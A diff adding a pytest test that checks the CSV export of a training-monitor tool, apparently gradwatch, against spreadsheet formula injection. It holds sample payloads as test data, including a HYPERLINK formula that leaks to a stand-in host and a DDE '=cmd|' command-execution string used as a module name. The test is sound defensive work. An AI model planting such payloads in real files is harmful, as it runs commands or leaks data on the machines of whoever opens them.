@@ -80,3 +80,49 @@ def test_an_unknown_run_is_exit_status_2(
     assert main(argv) == 2
     assert capsys.readouterr().err.startswith("gradwatch export: no run 'nope' in ")
     assert not (tmp_path / "x").exists()
+
+
+FORMULAS = ('=HYPERLINK("http://x/?leak","click")', "+1", "@SUM(A1)", "-cmd", "\tx", "=1+2")
+
+
+def test_csv_export_is_safe_to_open_in_a_spreadsheet(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Scalars, a parameter and a run named and configured with formulas: no text cell of
+    the CSV files starts a formula, numbers stay numbers, and read_table gives it all back."""
+    import csv
+
+    import torch
+    from torch import nn
+
+    monkeypatch.setenv("GRADWATCH_DIR", str(tmp_path / "data"))
+    torch.manual_seed(0)
+    model = nn.ModuleDict({"net": nn.Linear(3, 1), "=cmd|' /C calc'!A0": nn.Linear(3, 1)})
+    opt = torch.optim.SGD(model.parameters(), lr=0.1)
+    config = {"lr": "-1+1", "note": '=HYPERLINK("http://x/")', "by": "@SUM(A1)"}
+    with gradwatch.watch(model, opt, name=FORMULAS[0], config=config) as run:
+        for step in range(12):
+            opt.zero_grad()
+            model["net"](torch.randn(4, 3)).pow(2).mean().backward()  # the other never runs
+            opt.step()
+            run.log({name: float(step) for name in FORMULAS} | {"neg": -1.5, "tiny": 1e-3})
+            run.log({"worst": [-math.inf, math.nan][step % 2]})
+    out = tmp_path / "out"
+    assert main(["export", str(run.dir), "--format", "csv", "--out", str(out)]) == 0
+    data = gradwatch.open_run(run.dir)
+    assert any("=cmd" in str(p) for p in data.findings.param), "no finding names the parameter"
+    cells = []
+    for table in TABLES:
+        with (out / f"{table}.csv").open(newline="", encoding="utf-8") as f:
+            cells += [cell for row in csv.reader(f) for cell in row]
+    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(c in ("-1.5", "-inf") for c in formulas), sorted(set(formulas))[:10]
+    for name in FORMULAS:
+        assert f"'{name}" in cells
+    assert any(c.startswith("'=cmd|") for c in cells)  # tensor names and finding params
+    assert {"-1.5", "-inf", "0.001", "NaN"} <= set(cells)
+    back = {t: read_table(out / f"{t}.csv") for t in TABLES}
+    pd.testing.assert_frame_equal(back["steps"], data.steps)
+    pd.testing.assert_frame_equal(back["tensors"], data.tensors)
+    pd.testing.assert_frame_equal(back["findings"], data.findings)
+    assert set(FORMULAS) <= set(back["steps"].columns)
